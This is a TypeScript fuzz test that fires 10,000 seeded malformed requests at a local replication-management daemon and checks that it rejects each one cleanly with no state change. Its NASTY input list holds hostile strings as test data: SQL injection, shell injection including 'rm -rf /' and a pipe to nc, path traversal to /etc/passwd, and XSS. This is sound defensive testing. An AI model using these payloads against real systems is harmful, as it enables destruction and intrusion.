/**
 * Fuzz: at least 10,000 malformed requests against a live daemon on a real cluster — unknown
 * functions, wrong types, missing and repeated parameters, huge, binary and deeply nested bodies,
 * unicode, shell and SQL metacharacters in names and values, odd methods, paths and Authorization
 * headers. Every request is invalid by construction, so nothing may run. Checked: no 5xx, every
 * error is a JSON RD naming the parameter (or the function, body or URL), the daemon still answers,
 * and the state (get_server_info, servers.save) is exactly as before. Seeded (FUZZ_SEED) and
 * bounded: 10,000 requests, 16 at a time, at most 50 s.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { OPERATIONS, type OperationSpec } from '../../src/api/operations.js';
import { startDaemon, type RunningDaemon } from '../../src/daemon/daemon.js';
import { webSignature } from '../../src/daemon/web-params.js';
import { startCluster, type TestCluster } from '../fixtures/cluster.js';
import { basic, http, type HttpOptions, type HttpReply } from '../fixtures/daemon.js';
import { writeConfig } from '../fixtures/handyrep-config.js';

const REQUESTS = 10_000;
const CONCURRENCY = 16;
const TIME_LIMIT_MS = 50_000;
const ADMIN = basic('fuzz-admin');
const SEED = Number(process.env['FUZZ_SEED'] ?? 20_240_611);

let cluster: TestCluster;
let daemon: RunningDaemon;

before(async () => {
  cluster = await startCluster({ nodes: 3 });
  const path = await writeConfig(cluster, {
    handyrep: { authentication_method: 'simple_password_auth' },
    passwords: { admin_password: 'fuzz-admin', read_password: 'fuzz-read' },
  });
  daemon = await startDaemon(path, { host: '127.0.0.1', port: 0, monitor: false, notice: () => undefined });
  await http(daemon.url, '/verify_all', { headers: { authorization: ADMIN } });
});

after(async () => {
  await daemon?.stop();
  await cluster?.stop();
});

/** mulberry32: a small seeded generator, so a failing case can be replayed. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Values no parameter accepts: each holds a character no name, path, enum, boolean or number allows. */
/** Parameters that are free text (one line): any nasty string is a valid value there. */
const FREE_TEXT: ReadonlySet<string> = new Set(['pause.reason']);
/** Text every free-text parameter refuses: control characters, or too long. */
const BAD_TEXT = ['line one\nline two', 'tab\there', 'nul\u0000byte', 'x'.repeat(600), '   '];

const NASTY = [
  "'; DROP TABLE handyrep.handyrep; --",
  "john' OR '1'='1",
  '$(reboot)',
  '`id`',
  'a; rm -rf /',
  'x | nc 1.2.3.4 80',
  '../../etc/passwd ',
  '<script>alert(1)</script>',
  'ñandú',
  '💥',
  'żółw',
  '\u0000',
  '\u202e\u0041',
  'line\nbreak',
  ' ',
  'true false',
  '1 0',
  '-1.5e309 x',
  '{"$where": "sleep(1000)"} x',
  '%00;',
  'A'.repeat(300) + ' ',
  '∞ NaN',
  '🐘'.repeat(50),
];

interface Case {
  what: string;
  path: string;
  options: HttpOptions;
  /** Statuses this case may get. */
  expect: readonly number[];
  /** Names the error may give as its parameter (undefined: any, for body-level and URL errors). */
  parameters?: readonly string[];
}

const web = OPERATIONS.filter((o) => o.web);

function makeCase(next: () => number, index: number): Case {
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)] as T;
  const op: OperationSpec = pick(web);
  const sig = webSignature(op);
  const names = Object.keys(sig.params);
  const nasty = (): string => encodeURIComponent(pick(NASTY));
  const auth = { authorization: ADMIN };
  switch (index % 12) {
    case 0: {
      const name = pick(['no_such', 'get_status2', 'GET_STATUS', 'get%20status', 'verify_master', 'failover_check', '%F0%9F%92%A5', 'x'.repeat(150), "'%3B--", '%2e%2e', 'admin%2Fpasswd', '__proto__', 'constructor']);
      return { what: 'unknown function', path: `/${name}?servername=john`, options: { headers: auth }, expect: [404] };
    }
    case 1: {
      // Wrong type: a value no parameter accepts, in a real parameter.
      if (names.length === 0) return { what: 'parameter of a parameter-less function', path: `/${op.name}?${nasty()}=1`, options: { headers: auth }, expect: [400] };
      const name = pick(names);
      // Free text accepts the nasty strings (they are just text): give it text it refuses.
      const value = FREE_TEXT.has(`${op.name}.${name}`) ? encodeURIComponent(pick(BAD_TEXT)) : nasty();
      // The error may name a missing required parameter instead: both are wrong.
      return { what: `wrong type for ${op.name}.${name}`, path: `/${op.name}?${name}=${value}`, options: { headers: auth }, expect: [400], parameters: [name, ...sig.required] };
    }
    case 2: {
      // Missing required parameter (only functions that have one: the others would run).
      const required = sig.required;
      if (required.length === 0) return { what: 'unknown parameter', path: `/${op.name}?bogus_${index}=1`, options: { headers: auth }, expect: [400], parameters: [`bogus_${index}`] };
      return { what: `missing ${required.join(',')} of ${op.name}`, path: `/${op.name}`, options: { headers: auth }, expect: [400], parameters: required };
    }
    case 3: {
      const name = names.length > 0 ? pick(names) : 'servername';
      return { what: `repeated ${name}`, path: `/${op.name}?${name}=a&${name}=b`, options: { headers: auth }, expect: [400], parameters: [name] };
    }
    case 4: {
      const size = pick([BODY_HUGE, 200_000, 5_000]);
      const body = Buffer.alloc(size, pick(['x', '{', '\u00ff']));
      const type = pick(['application/json', 'application/x-www-form-urlencoded', 'application/octet-stream', 'text/plain']);
      return { what: `${size} byte ${type} body`, path: `/${op.name}`, options: { method: 'POST', headers: { ...auth, 'content-type': type }, body }, expect: [400, 413, 415] };
    }
    case 5: {
      const bytes = Buffer.from(Array.from({ length: 64 + Math.floor(next() * 512) }, () => Math.floor(next() * 256)));
      const type = pick(['application/json', 'application/x-www-form-urlencoded', 'application/octet-stream', 'image/png']);
      return { what: `binary ${type} body`, path: `/${op.name}`, options: { method: 'POST', headers: { ...auth, 'content-type': type }, body: bytes }, expect: [400, 415] };
    }
    case 6: {
      // JSON bodies of the wrong shape or with wrong types.
      const name = names.length > 0 ? pick(names) : 'nothing';
      const drawn = pick<unknown>([{ deep: { er: [1, 2, { x: null }] } }, [1, 2, 3], -1e308, pick(NASTY), { $gt: '' }, [pick(NASTY)]]);
      const value = typeof drawn === 'string' && FREE_TEXT.has(`${op.name}.${name}`) ? BAD_TEXT[0] : drawn;
      const body = pick([JSON.stringify({ [name]: value }), JSON.stringify([{ [name]: 1 }]), '"just a string"', '42', 'null', `${'['.repeat(5000)}${']'.repeat(5000)}`]);
      return { what: `JSON body ${body.slice(0, 40)}`, path: `/${op.name}`, options: { method: 'POST', headers: { ...auth, 'content-type': 'application/json' }, body }, expect: [400, 404], parameters: [name, '(body)', ...sig.required] };
    }
    case 7: {
      // Names with metacharacters: unknown parameters (or, for add_server & co, unknown settings).
      const name = nasty();
      const required = sig.required.map((r) => `${r}=${nasty()}`).join('&');
      return { what: `parameter name ${name.slice(0, 30)}`, path: `/${op.name}?${name}=1${required ? `&${required}` : ''}`, options: { headers: auth }, expect: [400] };
    }
    case 8: {
      const method = pick(['PUT', 'DELETE', 'PATCH', 'OPTIONS']);
      return { what: `${method} /${op.name}`, path: `/${op.name}`, options: { method, headers: auth }, expect: [404] };
    }
    case 9: {
      const path = pick([`/${op.name}%00`, '/%ff%fe', `//${op.name}`, `/${op.name}/extra`, `/${'a/'.repeat(400)}`, `/${op.name}?%zz=1&servername=%`, `/${op.name}?=x&&&`, `/${op.name}?a[b]=1`, `/primary/${'x'.repeat(250)}`, '/replica/john?lag=lots', '/replica/john?lag=1&lag=2']);
      return { what: `odd path ${path.slice(0, 40)}`, path, options: { headers: auth }, expect: [400, 404] };
    }
    case 10: {
      // Malformed or missing credentials (never a wrong password: that would slow the run down).
      const header = pick(['', 'Basic', 'Basic !!!', `Basic ${Buffer.from('no-colon').toString('base64')}`, 'Bearer token', 'Digest x', `Basic ${'A'.repeat(4000)}`]);
      const headers: Record<string, string> = header === '' ? {} : { authorization: header };
      return { what: `authorization "${header.slice(0, 20)}"`, path: `/${op.name}?servername=john`, options: { headers }, expect: [401] };
    }
    default: {
      // Form bodies with metacharacters, alone or merged with the query string.
      const name = names.length > 0 ? pick(names) : `bogus${index}`;
      return {
        what: `form ${op.name}.${name}`,
        path: `/${op.name}?${name}=${nasty()}`,
        options: { method: 'POST', headers: { ...auth, 'content-type': 'application/x-www-form-urlencoded' }, body: `${name}=${nasty()}` },
        expect: [400],
        parameters: [name, ...sig.required],
      };
    }
  }
}

const BODY_HUGE = 1024 * 1024 + 100;

async function state(): Promise<string> {
  const info = await http(daemon.url, '/get_server_info', { headers: { authorization: ADMIN } });
  return `${info.text}\n${await readFile(join(cluster.root, 'servers.save'), 'utf8')}`;
}

/**
 * A parameter only the controller may give (reload_conf's config_file) is refused over the web
 * with 403 whatever its value: a case that gives one may get that instead of a 400.
 */
function allowForbidden(c: Case): Case {
  const name = /^\/(\w+)/.exec(c.path)?.[1];
  const op = web.find((o) => o.name === name);
  const body = typeof c.options.body === 'string' ? c.options.body : '';
  const given = (op?.localOnly ?? []).filter((p) => c.path.includes(`${p}=`) || body.includes(`"${p}"`));
  return given.length > 0 ? { ...c, expect: [...c.expect, 403], parameters: [...(c.parameters ?? []), ...given] } : c;
}

/** What is wrong with one reply, or null. */
function problem(c: Case, reply: HttpReply): string | null {
  if (reply.status >= 500) return `${reply.status}`;
  if (!c.expect.includes(reply.status)) return `status ${reply.status}, expected ${c.expect.join('/')}`;
  const body = reply.json as { result?: unknown; details?: unknown; parameter?: unknown; function?: unknown } | undefined;
  if (!body || body.result !== 'FAIL' || typeof body.details !== 'string') return `not an RD: ${reply.text.slice(0, 100)}`;
  if (reply.status === 400 && typeof body.parameter !== 'string') return 'a 400 that names no parameter';
  if (reply.status === 400 && c.parameters && !c.parameters.includes(body.parameter as string)) {
    return `names ${String(body.parameter)}, expected one of ${c.parameters.join(', ')}`;
  }
  return null;
}

test(`fuzz: ${REQUESTS} malformed requests; no 5xx, every error an RD naming what is wrong, nothing changes`, async (t) => {
  const before = await state();
  const next = random(SEED);
  const cases = Array.from({ length: REQUESTS }, (_, i) => allowForbidden(makeCase(next, i)));
  const failures: string[] = [];
  const statuses = new Map<number, number>();
  const started = Date.now();
  let sent = 0;
  const worker = async (): Promise<void> => {
    while (sent < cases.length && Date.now() - started < TIME_LIMIT_MS) {
      const c = cases[sent++] as Case;
      let reply: HttpReply;
      try {
        reply = await http(daemon.url, c.path, { ...c.options, timeoutMs: 10_000 });
      } catch (err) {
        failures.push(`${c.what} (${c.path.slice(0, 80)}): ${(err as Error).message}`);
        continue;
      }
      statuses.set(reply.status, (statuses.get(reply.status) ?? 0) + 1);
      const wrong = problem(c, reply);
      if (wrong) failures.push(`${c.what} (${c.options.method ?? 'GET'} ${c.path.slice(0, 80)}): ${wrong}`);
    }
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, worker));
  const elapsed = Date.now() - started;
  t.diagnostic(`seed ${SEED}: ${sent} requests in ${elapsed} ms; statuses ${JSON.stringify(Object.fromEntries(statuses))}`);
  assert.deepEqual(failures.slice(0, 20), [], `${failures.length} bad replies`);
  assert.equal(sent, REQUESTS, `only ${sent} requests within ${TIME_LIMIT_MS} ms`);
  const health = await http(daemon.url, '/health');
  assert.equal(health.status, 200, 'the daemon still answers');
  assert.equal(await state(), before, 'the fuzz changed the state');
});
